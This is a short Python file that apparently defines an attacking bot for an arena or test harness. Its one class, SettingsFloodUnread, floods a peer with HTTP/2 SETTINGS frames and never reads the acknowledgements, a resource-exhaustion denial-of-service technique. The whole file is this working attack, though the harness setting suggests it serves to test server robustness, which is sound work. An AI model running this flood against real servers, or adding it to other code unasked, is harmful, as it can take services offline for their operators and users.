"""Changes its settings without end in its turn, and leaves the answers to pile up."""

from rawhttp2 import SETTINGS, RawBot, frame, setting

from arenabot.v1 import player_pb2 as player


class SettingsFloodUnread(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(SETTINGS, setting(4, 65_535)), reading=False)


if __name__ == "__main__":
    SettingsFloodUnread().serve()
